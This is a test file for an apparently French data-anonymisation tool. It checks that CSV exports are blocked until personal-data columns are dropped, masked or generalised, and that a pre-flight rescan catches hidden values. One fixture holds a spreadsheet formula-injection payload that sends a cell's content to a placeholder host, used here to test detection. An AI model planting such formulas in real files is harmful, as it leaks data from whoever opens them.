import { createHash } from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { ColumnDecision } from '../../../shared/decisions/column-decision.js';
import { openTable } from '../../../main/files/open-table.js';
import type { ExportHarness } from './export-harness.js';
import { createExportHarness } from './export-harness.js';
import { scanTable } from '../../../main/scan/scan-table.js';
import { SYNTHETIC_HEADER, writeSyntheticTable } from './synthetic-personal-table.js';

let h: ExportHarness;
beforeEach(() => {
  h = createExportHarness();
});
afterEach(() => h.close());

const sha256 = (file: string): string => createHash('sha256').update(fs.readFileSync(file)).digest('hex');

async function scannedDraft(rows = 300): Promise<{ draftId: string; source: string; data: string[][] }> {
  const source = path.join(h.dir, 'aides-sociales.csv');
  const data = writeSyntheticTable(source, rows);
  const { fileId } = h.files.register(source);
  const created = await h.call('drafts:create', { fileId, options: {} });
  const scanned = await h.call('drafts:scan', { draftId: created.draftId });
  return { draftId: scanned.draftId, source, data };
}

const EVERY_DECISION: [string, ColumnDecision][] = [
  ['nom', { kind: 'pseudonymise', justification: 'Jointure avec le fichier des versements, convention avec la CAF' }],
  ['courriel', { kind: 'drop' }],
  ['telephone', { kind: 'mask' }],
  ['nir', { kind: 'drop' }],
  ['iban', { kind: 'drop' }],
  ['date_naissance', { kind: 'generalise', rule: { kind: 'age-band', width: 10, referenceDate: '2026-01-01' } }],
  ['code_postal', { kind: 'generalise', rule: { kind: 'postal-code-department' } }],
  ['adresse', { kind: 'generalise', rule: { kind: 'address-commune' } }],
  ['geo', { kind: 'generalise', rule: { kind: 'coordinates', decimals: 2 } }],
  ['commentaire', { kind: 'redact' }],
  ['effectif', { kind: 'generalise', rule: { kind: 'small-count', threshold: 11 } }],
];

async function decideEverything(draftId: string): Promise<void> {
  for (const [name, decision] of EVERY_DECISION) {
    await h.call('decisions:decide', { draftId, columnIndex: SYNTHETIC_HEADER.indexOf(name), decision });
  }
  await h.call('decisions:rename', { draftId, columnIndex: 0, name: 'identifiant' });
}

describe('the gate, through the API', () => {
  it('refuses to export or pre-flight while a flagged column is undecided, and writes nothing', async () => {
    const { draftId } = await scannedDraft(60);
    const view = await h.call('drafts:get', { draftId });
    expect(view.flagged.map((c) => c.columnName)).toEqual(
      expect.arrayContaining(['nom', 'courriel', 'telephone', 'nir', 'iban', 'date_naissance', 'adresse', 'geo', 'commentaire']),
    );
    await expect(h.call('export:to-folder', { draftId })).rejects.toMatchObject({ code: 'gate.undecided', details: { column: 'nom' } });
    await expect(h.call('export:preflight', { draftId })).rejects.toMatchObject({ code: 'gate.undecided' });
    expect(fs.readdirSync(h.outDir)).toEqual([]);
  });

  it('refuses a « conserver » without a written justification', async () => {
    const { draftId } = await scannedDraft(60);
    await decideEverything(draftId);
    await h.call('decisions:decide', { draftId, columnIndex: 1, decision: { kind: 'keep', justification: 'ok', legalBasis: null } });
    await expect(h.call('export:to-folder', { draftId })).rejects.toMatchObject({ code: 'gate.keep-without-justification', details: { column: 'nom' } });
    expect(fs.readdirSync(h.outDir)).toEqual([]);
  });

  it('refuses a decision on a column the table does not have, and a malformed decision', async () => {
    const { draftId } = await scannedDraft(20);
    await expect(h.call('decisions:decide', { draftId, columnIndex: 99, decision: { kind: 'drop' } })).rejects.toMatchObject({ code: 'decisions.unknown-column' });
    await expect(h.call('decisions:decide', { draftId, columnIndex: 1, decision: { kind: 'keep' } as unknown as ColumnDecision })).rejects.toThrow(/Invalid request/);
  });
});

describe('decide, pre-flight and export to a folder', () => {
  it('publishes a file with no removed column and no personal value the detectors still see', async () => {
    const { draftId, source, data } = await scannedDraft(300);
    const sourceHash = sha256(source);
    await decideEverything(draftId);
    expect((await h.call('drafts:get', { draftId })).gate).toEqual([]);

    const preflight = await h.call('export:preflight', { draftId });
    expect(preflight.passed).toBe(true);
    expect(fs.readdirSync(path.join(h.dir, 'data', 'scratch'))).toEqual([]);

    const summary = await h.call('export:to-folder', { draftId });
    expect(summary).not.toBeNull();
    if (!summary) return;
    expect(summary.files).toEqual(['aides-sociales-publication.csv', 'datapackage.json', 'rapport-de-publication.html']);
    expect(fs.readdirSync(h.outDir).sort()).toEqual([...summary.files].sort());
    expect(summary.columns).toEqual(['identifiant', 'nom', 'telephone', 'date_naissance', 'code_postal', 'adresse', 'geo', 'commentaire', 'montant', 'effectif']);
    expect(summary.rowCount).toBe(300);

    const csvPath = path.join(h.outDir, summary.files[0] ?? '');
    const bytes = fs.readFileSync(csvPath);
    expect(sha256(csvPath)).toBe(summary.sha256);
    expect(bytes.length).toBe(summary.size);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.toString('utf8');
    for (const row of data) {
      for (const personal of [row[1], row[2], row[3], row[4], row[5], row[6], row[8]]) {
        expect(text.includes(personal ?? '\u0000')).toBe(false);
      }
    }

    const rescan = await scanTable(csvPath, { headerRow: 1 });
    const direct = rescan.findings.filter((f) => ['person-name', 'email', 'phone', 'nir', 'iban', 'precise-coordinates', 'free-text-personal', 'birth-date'].includes(f.category));
    expect(direct).toEqual([]);

    const table = await openTable(csvPath, { headerRow: 1 });
    const [first] = await table.readRows(0, 1);
    await table.close();
    expect(first?.[0]).toBe('1');
    expect(first?.[1]).toMatch(/^[0-9a-f]{20}$/);
    expect(first?.[2]).toBe('[masqué]');
    expect(first?.[3]).toMatch(/^(\d0-\d9|90\+)$/);
    expect(first?.[4]).toMatch(/^(31|2A)$/);
    expect(['Toulouse', 'Blagnac', 'Colomiers', "L'Union", 'Ajaccio']).toContain(first?.[5]);
    expect(first?.[6]).toMatch(/^43\.\d\d, 1\.\d\d$/);
    expect(first?.[8]).toMatch(/^\d+\.\d\d$/);

    const descriptor = JSON.parse(fs.readFileSync(path.join(h.outDir, 'datapackage.json'), 'utf8'));
    expect(descriptor.resources[0].hash).toBe(`sha256:${summary.sha256}`);
    expect(descriptor.resources[0].dialect.delimiter).toBe(';');
    expect(descriptor.resources[0].schema.fields.map((f: { name: string }) => f.name)).toEqual(summary.columns);

    const report = fs.readFileSync(path.join(h.outDir, 'rapport-de-publication.html'), 'utf8');
    expect(report).toContain('Colonnes supprimées ou transformées');
    expect(report).toContain('courriel');
    expect(report).toContain('Supprimée');
    expect(report).toContain('Jointure avec le fichier des versements');
    expect(sha256(source)).toBe(sourceHash);
  });

  it('gives the same pseudonym to the same value in two exports (joins still work)', async () => {
    const { draftId } = await scannedDraft(40);
    await decideEverything(draftId);
    const [firstRow] = (await h.call('decisions:preview', { draftId, rows: [['1', 'DUPONT Jeanne']] })).rows;
    const again = (await h.call('decisions:preview', { draftId, rows: [['2', 'DUPONT Jeanne']] })).rows[0];
    expect(firstRow?.[1]).toMatch(/^[0-9a-f]{20}$/);
    expect(again?.[1]).toBe(firstRow?.[1]);
  });
});

describe('pre-flight on the output', () => {
  it('blocks a phone hidden in a column that looked clean and a formula cell, until decided', async () => {
    const source = path.join(h.dir, 'signalements.csv');
    const lines = ['numero;ref;lien;objet'];
    for (let i = 0; i < 80; i++) {
      const ref = i % 2 === 0 ? `06 39 98 ${String(10 + (i % 80)).padStart(2, '0')} ${String(20 + (i % 70)).padStart(2, '0')}` : `R-${1000 + i}`;
      const link = i === 17 ? '=HYPERLINK("http://exemple.invalid/?d="&A1;"voir")' : `https://exemple.fr/dossier/${i}`;
      lines.push(`${i + 1};${ref};"${link.replaceAll('"', '""')}";Nid de poule`);
    }
    fs.writeFileSync(source, lines.join('\n') + '\n', 'utf8');
    const { fileId } = h.files.register(source);
    const { draftId } = await h.call('drafts:create', { fileId, options: {} });
    const scanned = await h.call('drafts:scan', { draftId });
    expect(scanned.flagged.map((c) => c.columnName)).not.toContain('ref');
    await h.call('decisions:rename', { draftId, columnIndex: 1, name: 'telephone_contact' });

    await expect(h.call('export:to-folder', { draftId })).rejects.toMatchObject({ code: 'export.preflight-blocked' });
    expect(fs.readdirSync(h.outDir)).toEqual([]);
    const blocked = await h.call('drafts:get', { draftId });
    expect(blocked.preflight?.passed).toBe(false);
    const issues = blocked.preflight?.issues.filter((issue) => issue.blocking) ?? [];
    expect(issues.map((issue) => [issue.columnName, issue.kind])).toEqual([
      ['telephone_contact', 'personal-data'],
      ['lien', 'formula'],
    ]);
    expect(issues[1]?.exampleRows).toEqual([17]);
    expect(blocked.gate.map((p) => p.code)).toEqual(['gate.undecided', 'gate.undecided']);

    await h.call('decisions:decide', { draftId, columnIndex: 1, decision: { kind: 'mask' } });
    await h.call('decisions:decide', { draftId, columnIndex: 2, decision: { kind: 'redact' } });
    const summary = await h.call('export:to-folder', { draftId });
    expect(summary?.preflight.passed).toBe(true);
    const text = fs.readFileSync(path.join(h.outDir, 'signalements-publication.csv'), 'utf8');
    expect(text).not.toMatch(/06 39 98/);
    expect(text).toContain(`"'=HYPERLINK(`);
  });

  it('reads every row of the output: a NIR the sampled scan passed over blocks the export until redacted', async () => {
    const source = path.join(h.dir, 'dossiers.csv');
    const lines = ['dossier;commentaire'];
    // Past the first 10 000 cells the scan samples one row in 8: row 20 001 is not among them.
    const hidden = 20_001;
    for (let i = 0; i < 24_000; i++) {
      lines.push(`D${String(i).padStart(5, '0')};${i === hidden ? 'Pièce reçue, NIR 2 84 05 31 555 123 79 à vérifier' : 'Dossier complet, rien à signaler'}`);
    }
    fs.writeFileSync(source, lines.join('\n') + '\n', 'utf8');
    const { fileId } = h.files.register(source);
    const { draftId } = await h.call('drafts:create', { fileId, options: {} });
    const scanned = await h.call('drafts:scan', { draftId });
    expect(scanned.flagged).toEqual([]);

    await expect(h.call('export:to-folder', { draftId })).rejects.toMatchObject({ code: 'export.preflight-blocked' });
    expect(fs.readdirSync(h.outDir)).toEqual([]);
    const issue = (await h.call('drafts:get', { draftId })).preflight?.issues[0];
    expect(issue).toMatchObject({ columnName: 'commentaire', category: 'free-text-personal', blocking: true, exampleRows: [hidden] });

    await h.call('decisions:decide', { draftId, columnIndex: 1, decision: { kind: 'redact' } });
    expect((await h.call('export:to-folder', { draftId }))?.preflight.passed).toBe(true);
    const text = fs.readFileSync(path.join(h.outDir, 'dossiers-publication.csv'), 'utf8');
    expect(text).not.toContain('2 84 05 31 555 123 79');
    expect(text.split('\n')).toHaveLength(24_002);
  });
});
